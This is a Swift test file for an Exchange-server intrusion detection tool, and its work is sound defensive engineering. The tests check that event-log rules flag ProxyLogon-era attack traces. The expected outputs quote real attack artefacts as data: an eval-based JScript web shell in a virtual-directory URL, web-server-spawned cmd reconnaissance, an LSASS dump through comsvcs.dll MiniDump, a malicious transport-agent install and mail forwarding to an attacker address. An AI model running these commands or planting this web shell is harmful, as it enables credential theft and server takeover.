@testable import ExchangeDetection
import ExchangeEvidence
import Foundation
import Testing

/// Event-log rules on wevtutil XML exports built from the published events (the UM error shape, OTRF's
/// cmdlet-log record, Security 4688 with HAFNIUM's command lines) and on the shared real `.evtx` files.
@Suite struct EventLogRuleTests {
    let store: EventStore
    init() throws { store = try RuleFixtures.store("hostlogs") }

    @Test func umInvalidCastErrorFiresOnlyForTheUMProviderAtLevelError() {
        let f = RuleFixtures.run("proxylogon.um-deserialization", on: store)
        #expect(f.count == 1)
        #expect(f.first?.cves == ["CVE-2021-26857"])
        #expect(f.first?.summary.contains("EventID 1141 from MSExchange Unified Messaging") == true)
        #expect(f.first?.time == Timestamp.parse("2021-03-03T04:11:24.738Z"))
        // A message naming its types in quotes of its own is quoted with ", so reports pair the right quotes.
        #expect("type 'System.X' to".quotedForSummary == #""type 'System.X' to""# && "plain".quotedForSummary == "'plain'")
    }

    @Test func cmdletLogScriptInExternalUrlFiresAndAValidURLDoesNot() {
        let f = RuleFixtures.run("exchange.cmdlet-vdir-script", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary == "Set-OabVirtualDirectory -ExternalUrl 'http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load(){/**/eval(Request[\"code\"],\"unsafe\");}</script>'"
                + " by contoso.local/Users/Administrator via 10844 w3wp#MSExchangePowerShellAppPool", "who ran it, as the cmdlet log says")
    }

    @Test func w3wpStartingCmdIsOneSessionWithItsChildren() {
        let f = RuleFixtures.run("process.webserver-shell", on: store)
        #expect(f.count == 1)  // csc.exe compiling a page is not a shell
        let s = f.first?.summary ?? ""
        #expect(s.hasPrefix("w3wp.exe started cmd.exe: 'cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\"&whoami&echo [S]&cd&echo [E]'"))
        #expect(s.contains("then whoami.exe 'whoami'"))
        #expect(f.first?.events.count == 4)
    }

    @Test func sevenZipIntoProgramDataFiresAndExtractingElsewhereDoesNot() {
        let f = RuleFixtures.run("process.7zip-programdata", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary.contains("C:\\ProgramData\\pst\\it.zip") == true)
    }

    @Test func exchangeSnapinFiresButNotForSetupsGetExchangeServer() {
        let f = RuleFixtures.run("process.exchange-snapin", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary.contains("New-MailboxExportRequest") == true)
    }

    // MARK: - The shared real EVTX files

    @Test func sysmonWebShellFixture() throws {
        guard let s = try RuleFixtures.evtxStore("iis-webshell-w3wp-spawns-cmd-sysmon.evtx") else { return }
        let f = RuleFixtures.run("process.webserver-shell", on: s)
        #expect(f.count == 1)
        let summary = f.first?.summary ?? ""
        #expect(summary.hasPrefix("w3wp.exe (DefaultAppPool) started cmd.exe: '\"c:\\windows\\system32\\cmd.exe\" /c net user' as IIS APPPOOL\\DefaultAppPool"))
        #expect(summary.contains("net.exe 'net  user'"))
        #expect(summary.contains("net1.exe 'C:\\Windows\\system32\\net1  user'"))
        #expect(f.first?.events.count == 3)
    }

    @Test func sysmonLsassDumpFixture() throws {
        guard let s = try RuleFixtures.evtxStore("lsass-dump-comsvcs-minidump-sysmon.evtx") else { return }
        let f = RuleFixtures.run("process.lsass-dump", on: s)
        #expect(f.count == 1)
        #expect(f.first?.summary.hasPrefix("powershell.exe 'powershell.exe -NoP -C \"C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump") == true)
        // powershell start, rundll32 start, the .dmp written, lsass.exe opened
        #expect(f.first?.events.count == 4)
    }

    @Test func securityLsassDumpFixture() throws {
        guard let s = try RuleFixtures.evtxStore("lsass-dump-comsvcs-minidump-security-4688.evtx") else { return }
        let f = RuleFixtures.run("process.lsass-dump", on: s)
        #expect(f.count == 1)
        #expect(f.first?.summary.contains("comsvcs.dll MiniDump 512 \\Windows\\Temp\\2V7Be7Gq.dmp full") == true || f.first?.summary.contains("2V7Be7Gq.dmp") == true)
        #expect((f.first?.events.count ?? 0) >= 6)  // two process starts and four lsass.exe handle events
        #expect(f.first?.severity == .critical)
        // The dump was then read over SMB (Security 5145 on its file): cited, with the reader's address.
        #expect(f.first?.summary.contains("the dump read over SMB from 10.23.123.11 (3 Security 5145 events)") == true, "\(f.first?.summary ?? "")")
        let cited = (f.first?.events ?? []).filter { s.field("EventID", of: $0) == "5145" }
        #expect(cited.count == 3)
    }

    @Test func transportAgentFixtureIsFlaggedEvenThoughTheCmdletFailed() throws {
        guard let s = try RuleFixtures.evtxStore("exchange-management-install-transport-agent.evtx") else { return }
        let f = Hunter().run(on: s).findings
        #expect(f.map(\.rule) == ["exchange.transport-agent"])
        let summary = f.first?.summary ?? ""
        #expect(summary.hasPrefix("Install-TransportAgent -Name \"Evil\" -AssemblyPath \".\\NetshHelperBeacon.dll\" -TransportAgentFactory \"hack\" by offsec.lan/OFFSEC-COMPANY/Administrators/admmig via 8372 w3wp#MSExchangePowerShellAppPool; failed: System.ArgumentException"))
        #expect(summary.contains("then Install-TransportAgent"))
        #expect(summary.contains("Enable-TransportAgent -Identity \"hack\" (failed)"))
        #expect(f.first?.events.count == 4)
    }

    @Test func mailboxForwardingFixture() throws {
        guard let s = try RuleFixtures.evtxStore("exchange-management-set-mailbox-forwarding-wec.evtx") else { return }
        let f = Hunter().run(on: s).findings
        #expect(f.map(\.rule) == ["exchange.mailbox-forwarding"])
        #expect(f.first?.summary.hasSuffix("mail forwarded to smtp:test2@example.com") == true)
    }

    @Test func forwardingValues() {
        #expect(MailboxForwardingRule.forwarding("-Identity \"a\" -ForwardingSmtpAddress \"smtp:x@evil.example\"") == "smtp:x@evil.example")
        #expect(MailboxForwardingRule.forwarding("-Identity \"a\" -ForwardingSmtpAddress $null") == nil)
        #expect(MailboxForwardingRule.forwarding("-Identity \"a\" -DeliverToMailboxAndForward \"False\"") == nil)
    }

    @Test func benignAndUnrelatedLogsRaiseNothing() throws {
        for name in ["application-benign-no-crc32.evtx", "security-benign-logons.evtx", "dirty-appx-deployment-bad-chunk-magic.evtx"] {
            guard let s = try RuleFixtures.evtxStore(name) else { return }
            let f = Hunter().run(on: s).findings
            #expect(f.isEmpty, "\(name): \(f.map(\.summary))")
        }
    }
}

/// Sysmon file creation: the OTRF lab's web-shell write and its compiled copy, the UM worker writing a page.
@Suite struct WebShellWriteRuleTests {
    @Test func webShellWritesFireAndNormalWritesDoNot() throws {
        let store = try RuleFixtures.store("hostlogs")
        let f = RuleFixtures.run("webshell.write-event", on: store)
        let all = f.map(\.summary).joined(separator: "\n")
        #expect(f.count == 3)
        #expect(all.contains("System created C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\ohyeah.aspx: 'ohyeah.aspx' is not a standard page of owa\\auth\\"))
        #expect(f.first { $0.summary.contains("ohyeah.aspx.f5dba9b9.compiled") }?.severity == .medium)
        #expect(all.contains("UMWorkerProcess.exe created C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.txt.aspx"))
        #expect(!all.contains("App_Web_") && !all.contains("logon.aspx") && !all.contains("UMWorkerProcess_20210303.LOG"))
    }
}

/// A process start exported without its process ids (a SIEM export that kept some fields) still names its parent:
/// w3wp starting cmd fires, explorer starting cmd does not (reviewer: no finding when both ids were dropped).
@Suite struct ProcessStartWithoutIDsTests {
    @Test func w3wpStartingCmdFiresWithoutProcessIDs() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-noids-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        let folder = dir.appendingPathComponent("EX01/eventlogs")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        func start(_ time: String, parent: String) -> String {
            #"{"@timestamp":"2021-03-03T07:0"# + time + #".000Z","SourceName":"Microsoft-Windows-Sysmon","Channel":"Microsoft-Windows-Sysmon/Operational","#
                + #""Hostname":"EX01.contoso.local","EventID":1,"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd /c whoami","#
                + #""ParentImage":""# + parent + #"","User":"NT AUTHORITY\\SYSTEM"}"# + "\n"
        }
        try (start("0:15", parent: #"c:\\windows\\system32\\inetsrv\\w3wp.exe"#) + start("1:15", parent: #"C:\\Windows\\explorer.exe"#))
            .write(to: folder.appendingPathComponent("sysmon.json"), atomically: true, encoding: .utf8)
        let store = EventStore()
        _ = try EvidenceLoader(workers: 1).load(dir.appendingPathComponent("EX01").path, into: store)
        #expect(store.count == 2)
        let f = RuleFixtures.run("process.webserver-shell", on: store)
        #expect(f.map(\.summary) == ["w3wp.exe started cmd.exe: 'cmd /c whoami' as NT AUTHORITY\\SYSTEM"])
    }
}

/// Security 4688 without ParentProcessName: the web server is found through the creator process id.
@Suite struct CreatorProcessIDTests {
    @Test func w3wpChildIsFoundThroughTheCreatorID() throws {
        let store = try RuleFixtures.store("hostlogs-4688")
        let f = RuleFixtures.run("process.webserver-shell", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary == "w3wp.exe (MSExchangeECPAppPool) started cmd.exe: 'cmd /c \"ipconfig /all\"&echo [S]&cd&echo [E]' as EX02$")
    }
}
